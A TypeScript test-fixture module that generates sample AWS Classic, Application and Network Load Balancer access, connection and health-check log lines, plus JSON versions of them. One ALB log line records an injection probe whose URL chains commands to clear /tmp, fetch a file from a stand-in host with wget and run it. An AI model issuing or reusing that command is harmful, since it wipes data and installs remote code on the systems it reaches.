import { ACCOUNT, REGION } from "./make-fixtures-events.ts";

// Lines as the AWS guides for Classic, Application and Network Load Balancers describe them, odd ones included.

const CERTIFICATE = `arn:aws:acm:${REGION}:${ACCOUNT}:certificate/2a108f19-1111-2222-3333-444455556666`;

const classic = (changes: Readonly<Record<number, string>> = {}): string =>
  [
    "2026-11-03T09:05:00.945958Z",
    "shop-classic",
    "198.51.100.4:2817",
    "10.0.0.1:80",
    "0.000073",
    "0.001048",
    "0.000057",
    "200",
    "200",
    "0",
    "29",
    '"GET http://www.example.com:80/basket/items.json?page=2&sort=name HTTP/1.1"',
    '"curl/8.5.0"',
    "-",
    "-",
  ]
    .map((field, i) => changes[i] ?? field)
    .filter((field) => field !== "")
    .join(" ");

const TCP = { 7: "-", 8: "-", 11: '"- - - "', 12: '"-"' } as const;
const UNREACHED = { 3: "-", 4: "-1", 5: "-1", 6: "-1" } as const;

const classicLines = [
  classic(),
  classic({
    7: "404",
    8: "404",
    11: '"POST https://www.example.com:443/pay HTTP/1.1"',
    13: "DHE-RSA-AES128-SHA",
    14: "TLSv1.2",
  }),
  classic({ ...UNREACHED, 7: "503", 8: "0", 9: "12", 10: "0", 12: '"Mozilla/5.0 (\\"quoted\\" agent)"' }),
  classic({ ...TCP, 9: "82", 10: "305" }),
  classic({ ...TCP, 9: "57", 10: "502", 13: "ECDHE-ECDSA-AES128-GCM-SHA256", 14: "TLSv1.2" }),
  classic({ ...TCP, ...UNREACHED, 2: "[2001:db8::7]:50123", 9: "0", 10: "0" }),
  // As before user agents and TLS were logged.
  classic({ 12: "", 13: "", 14: "" }),
  classic({ 11: '"GET http://www.example.com:80/a b?q=1#top HTTP/1.1"' }),
];

const nlb = (changes: Readonly<Record<number, string>> = {}): string =>
  [
    "tls",
    "2.0",
    "2026-11-03T09:05:40",
    "net/shop-nlb/c6e77e28c25b2234",
    "g3d4b5e8bb8464cd",
    "198.51.100.23:51341",
    "10.0.0.7:443",
    "5",
    "2",
    "98",
    "246",
    "-",
    CERTIFICATE,
    "-",
    "ECDHE-RSA-AES128-SHA",
    "tlsv12",
    "-",
    `shop-nlb-c6e77e28c25b2234.elb.${REGION}.amazonaws.com`,
    "h2",
    "h2",
    '"h2","http/1.1"',
    "2026-11-03T09:05:20",
  ]
    .map((field, i) => changes[i] ?? field)
    .filter((field) => field !== "")
    .join(" ");

const nlbLines = [
  nlb(),
  nlb({ 15: "tlsv13", 14: "TLS_AES_128_GCM_SHA256", 16: "x25519", 18: "-", 19: "-", 20: "-" }),
  // The handshake failed: neither target nor TLS.
  nlb({
    6: "-",
    7: "0",
    8: "-",
    9: "0",
    10: "0",
    11: "48",
    12: "-",
    14: "-",
    15: "-",
    17: "-",
    18: "-",
    19: "-",
    20: "-",
  }),
  nlb({ 1: "1.0", 18: "", 19: "", 20: "", 21: "" }),
  nlb({ 5: "[2001:db8::42]:40000", 6: "[2001:db8::1]:443" }),
];

const SUBJECT = '"CN=client-7.example.com,O=Example,L=Dublin,C=IE"';
const VALIDITY = "NotBefore=2026-01-21T22:43:21Z;NotAfter=2027-06-17T22:43:21Z";

const connectionLines = [
  `2026-11-03T09:05:15.514108Z 203.0.113.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 ${SUBJECT} ${VALIDITY} FEF257372D5C14D4 Success TID_3180a73013c8ca4bac2f731159d4b0fe`,
  `2026-11-03T09:05:16.000001Z 2001:db8::9 36281 443 TLSv1.3 TLS_AES_128_GCM_SHA256 - ${SUBJECT} ${VALIDITY} FEF257372D5C14D4 Failed:ClientCertUntrusted TID_3180a73013c8ca4bac2f731159d4b0ff`,
  '2026-11-03T09:05:17.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148',
  // As before traces were logged.
  '2026-11-03T09:05:18.599544Z 172.31.43.26 58207 443 - - - "-" - - Failed:UnmappedConnectionError',
];

const healthCheckLines = [
  "http 2026-11-03T09:05:00.875678Z 0.019584011 172.31.20.97:80 shop-targets PASS 200 -",
  "https 2026-11-03T09:05:05.901409Z 0.121872611 172.31.31.2:443 shop-targets-tls FAIL 502 ResponseCodeMismatch",
  "http 2026-11-03T09:05:10.893141Z 5.003109451 172.31.20.98:80 shop-targets FAIL - RequestTimedOut",
  `lambda 2026-11-03T09:05:12.000000Z 0.250000000 arn:aws:lambda:${REGION}:${ACCOUNT}:function:shop:1 shop-lambda PASS 200 -`,
];

const albLines = [
  `h2 2026-11-03T09:05:00.186641Z app/shop/50dc6c495c0c9188 198.51.100.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/img/logo.svg?v=3 HTTP/2.0" "Mozilla/5.0 (X11; Linux x86_64)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/shop/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "${CERTIFICATE}" 1 2026-11-03T09:05:00.100000Z "authenticate,forward" "-" "-" "10.0.0.1:80 10.0.0.2:80" "502 200" "-" "-" TID_1234abcd5678ef90`,
  `http 2026-11-03T09:05:01.051646Z app/shop/50dc6c495c0c9188 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://198.51.100.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example/x;sh+/tmp/x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2026-11-03T09:05:01.050000Z "redirect" "https://198.51.100.1:443/shell?cd+/tmp" "-" "-" "-" "Acceptable" "SpaceInUri"`,
  `https 2026-11-03T09:05:02.000000Z app/shop/50dc6c495c0c9188 203.0.113.21:41543 - -1 -1 -1 400 - 0 272 "- https://shop.example.com:443- -" "-" - - - "-" "-" "-" -1 2026-11-03T09:05:01.990000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000`,
];

const lines = (list: readonly string[]): string => `${list.join("\n")}\n`;

const ALB_MEMBERS =
  "type time elb client_port target_port request_processing_time target_processing_time response_processing_time elb_status_code target_status_code received_bytes sent_bytes request_line user_agent ssl_cipher ssl_protocol target_group_arn trace_id domain_name chosen_cert_arn matched_rule_priority request_creation_time actions_executed redirect_url error_reason target_port_list target_status_code_list classification classification_reason conn_trace_id";
const NLB_MEMBERS =
  "type version time elb listener client_port destination_port connection_time tls_handshake_time received_bytes sent_bytes incoming_tls_alert chosen_cert_arn chosen_cert_serial tls_cipher tls_protocol_version tls_keyexchange domain_name alpn_fe_protocol alpn_be_protocol alpn_client_preference_list tls_connection_creation_time";
const CONNECTION_MEMBERS =
  "time client_ip client_port listener_port tls_protocol tls_cipher tls_handshake_latency leaf_client_cert_subject leaf_client_cert_validity leaf_client_cert_serial_number tls_verify_status conn_trace_id";
const HEALTH_CHECK_MEMBERS = "type time latency target_addr target_group_id status status_code reason_code";

/** The same entries as vended log delivery has them in JSON, by the record fields of the log types. */
const objects = (list: readonly string[], members: string): string =>
  lines(
    list.map((line) => {
      const fields = [...line.matchAll(/"(?:[^"]|"(?! |$))*"(?= |$)|[^ ]+/g)].map(([field]) => unquoted(field));
      return JSON.stringify(Object.fromEntries(members.split(" ").map((name, i) => [name, fields[i] ?? "-"])));
    }),
  );
const unquoted = (field: string): string => (field.startsWith('"') ? field.slice(1, -1) : field);

const PREFIX = `AWSLogs/${ACCOUNT}/elasticloadbalancing/${REGION}/2026/11/03`;

export const loadBalancerFixtures: Readonly<Record<string, string>> = {
  "alb/access.log": lines(albLines),
  "alb-connection/connection.log": lines(connectionLines),
  "alb-health-check/health-check.log": lines(healthCheckLines),
  "alb-json/access.json": objects(albLines, ALB_MEMBERS),
  "nlb-json/tls.json": objects(nlbLines, NLB_MEMBERS),
  "alb-connection-json/connection.json": objects(connectionLines, CONNECTION_MEMBERS),
  "alb-health-check-json/health-check.json": objects(healthCheckLines, HEALTH_CHECK_MEMBERS),
  "elb/access.log": lines(classicLines),
  [`elb/${PREFIX}/tcp.log`]: lines(classicLines.slice(3, 5)),
  "nlb/tls.log": lines(nlbLines),
};
